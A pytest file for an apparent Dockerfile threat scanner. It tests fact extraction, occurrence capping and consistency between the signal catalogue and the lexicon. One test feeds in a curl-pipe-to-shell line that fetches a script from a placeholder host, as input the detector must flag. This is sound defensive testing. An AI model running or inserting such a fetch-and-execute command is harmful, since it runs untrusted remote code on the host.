"""What instructions do: vectors, and the names that tables and catalogue share."""

from __future__ import annotations

from itertools import chain

import pytest

from t1612core.container.dockerfile.facts import OCCURRENCES, facts
from t1612core.container.dockerfile.reader import parse
from t1612core.knowledge.dockerfile.lexicon import LEXICON
from t1612core.knowledge.profiles.hardened import DOCKERFILE
from t1612core.knowledge.signals.dockerfile import SIGNALS

from .vectors_file import Vector, params


@pytest.mark.parametrize("vector", params("facts"))
def test_instructions_show_the_facts_that_their_vector_says(vector: Vector) -> None:
    """Each fact as often as it is seen, and no other."""
    found = facts(parse(vector["input"]), LEXICON)

    assert vector["expected"] == sorted(fact.name for fact in found)


def test_a_fact_is_given_a_few_times_only() -> None:
    """A file with the same line a hundred times has ``OCCURRENCES`` of its fact."""
    found = facts(parse("RUN curl -s https://x.example/a | sh\n" * 100), LEXICON)

    assert ["pipe_to_shell"] * OCCURRENCES == [fact.name for fact in found]
    assert list(range(1, OCCURRENCES + 1)) == [fact.line for fact in found]


def test_each_signal_is_complete() -> None:
    """Ids are unique; weight, technique, source and reason are there."""
    weights = dict(DOCKERFILE.weights)
    assert [signal.id for signal in SIGNALS] == [id for id, _ in DOCKERFILE.weights]
    assert len(weights) == len(SIGNALS)
    for signal in SIGNALS:
        assert signal.id.startswith("dockerfile.")
        assert weights[signal.id] in range(5)
        assert signal.attack[0] == "T1612"
        assert all((signal.title, signal.source, signal.reason))


def test_each_fact_that_the_lexicon_names_is_a_signal() -> None:
    """A misspelt fact would be lost."""
    named = {rule.fact for rule in chain(*LEXICON.command_rules.values())}
    named |= {rule.fact for rule in LEXICON.variable_rules}
    named |= {rule.fact for rule in LEXICON.code_rules} | set(LEXICON.terms.values())
    named |= {name for rule in LEXICON.path_rules for name in (rule.fact, rule.worse) if name}

    assert set() == {f"dockerfile.{name}" for name in named} - {signal.id for signal in SIGNALS}
